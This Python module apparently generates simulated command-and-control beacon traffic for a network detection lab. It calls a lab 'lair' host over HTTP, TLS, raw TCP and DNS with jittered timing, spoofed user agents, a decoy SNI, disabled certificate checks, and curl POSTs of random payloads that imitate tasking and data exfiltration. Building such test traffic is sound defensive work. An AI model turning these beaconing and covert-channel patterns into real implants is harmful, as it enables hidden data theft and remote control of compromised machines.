"""Calls home: over HTTP, TLS, DNS and raw TCP, with sleep and jitter, now and then with an order and its result."""

import socket
import ssl

from attacks.tunnel import label, resolver
from attacks.way import Way
from services import lair as far


def rhythm(act):
    return act.every(act.draw("period_s", 0.8, 9.0), act.pick("jitter", [0, 0.05, 0.1, 0.3, 0.5]))


def place(act, lair, tls):
    path = act.pick("path", ["api/check", "tiny", "api/a.gif", "page"])
    return f"{'https' if tls else 'http'}://{lair.v4}:{lair.port['https' if tls else 'http']}/{path}"


def order(act):
    """Whether there is work this time."""
    return act.rng.random() < 0.06


def program(tool, tls):
    def attack(act):
        lair = act.lair
        at, agent = place(act, lair, tls), f"Mozilla/5.0 ({act.rng.random():.3f})"
        for _ in rhythm(act):
            size = act.rng.choice([5_000, 60_000]) if order(act) else act.rng.randrange(20, 200)
            act.run({"curl": ["curl", "-s", "-k", "-o", "/dev/null", "-A", agent, *(["-d", "@" + act.scratch(size)]
                              if act.rng.random() < 0.4 else []), at],
                     "wget": ["wget", "-q", "-O", "/dev/null", "--no-check-certificate", "-T", 5, "-t", 1, "-U", agent, at],
                     }[tool], 8)

    return attack


def requests(act):
    """A Python implant: one session for all calls, or a new one each time."""
    import requests as library
    import urllib3

    urllib3.disable_warnings()
    lair = act.lair
    at, kept = place(act, lair, act.pick("tls", [0, 1, 1])), act.pick("session", ["kept", "new"]) == "kept"
    session = library.Session()
    for _ in rhythm(act):
        if not kept:
            session.close()
            session = library.Session()
        try:
            if order(act):
                session.post(at, data=act.rng.randbytes(act.rng.choice([4_000, 50_000])), timeout=5, verify=False)
            else:
                session.get(at, headers={"X-Id": act.rng.randbytes(act.rng.randrange(8, 60)).hex()}, timeout=5, verify=False)
        except library.RequestException:
            pass
    session.close()


def openssl(act):
    lair = act.lair
    for _ in rhythm(act):
        act.run(["bash", "-c", f"echo -e 'GET /tiny HTTP/1.0\\r\\n\\r\\n' | timeout 3 openssl s_client -quiet -connect "
                               f"{lair.v4}:{lair.port['https']}"], 5)


def own_raw(act):
    """A channel of its own, plain or encrypted from the first byte: one connection that is kept, or one a call."""
    lair = act.lair
    kept, client = act.pick("session", ["kept", "new"]) == "kept", None
    for _ in rhythm(act):
        client = client or act.tcp(lair.v4, far.RAW_PORT, 5)
        try:
            client.sendall(act.rng.randbytes(act.rng.choice([2000, 9000]) if order(act) else act.rng.randrange(16, 120)))
            client.recv(4096)
        except OSError:
            client.close()
            client = None
        if not kept and client:
            client.close()
            client = None


def own_tls(act):
    """TLS with a hello of its own, one call a connection, sizes blurred or not."""
    lair = act.lair
    context = ssl.create_default_context()
    context.check_hostname, context.verify_mode = False, ssl.CERT_NONE
    context.set_ciphers(act.pick("ciphers", ["ECDHE+AESGCM", "ECDHE+CHACHA20", "HIGH"]))
    if act.pick("version", ["1.2", "1.3"]) == "1.2":
        context.maximum_version = ssl.TLSVersion.TLSv1_2
    blur = act.pick("size_jitter", [0, 0, 400])
    for _ in rhythm(act):
        try:
            with context.wrap_socket(act.tcp(lair.v4, lair.port["https"], 5), server_hostname="cdn.example") as wire:
                wire.sendall(b"GET /tiny HTTP/1.1\r\nHost: cdn.example\r\nCookie: " + b"c" * (40 + act.rng.randrange(blur + 1))
                             + b"\r\n\r\n")
                wire.recv(4096)
        except (OSError, socket.timeout):
            pass


def dns(tool):
    def attack(act):
        zone, at = resolver(act, far.BEACON)
        kind = act.pick("record", ["A", "TXT", "TXT", "AAAA"])
        for _ in rhythm(act):
            name = ".".join([*label(act, act.rng.randrange(4, 14)), zone])
            act.run({"dig": ["dig", f"@{at}", "+tries=1", "+time=1", "+short", name, kind],
                     "kdig": ["kdig", f"@{at}", "+retry=0", "+timeout=1", name, kind]}[tool], 3)

    return attack


F, LONG = "beacon", (25, 60)
CASES = [("curl", "http", program("curl", False)), ("curl", "tls", program("curl", True)), ("wget", "http", program("wget", False)),
         ("wget", "tls", program("wget", True)), ("requests", "http", requests), ("openssl", "tls", openssl),
         ("ours", "raw", own_raw), ("ours", "tls", own_tls), ("dig", "dns", dns("dig")), ("kdig", "dns", dns("kdig"))]
WAYS = [Way(F, tool, name, act, by=by, seconds=LONG) for tool, name, act in CASES for by in ("client", "client", "attacker")]
TOOLS = {"curl": "curl", "wget": "wget", "requests": "python3-requests", "openssl": "openssl", "dig": "bind9-dnsutils",
         "kdig": "knot-dnsutils", "ours": "ours"}
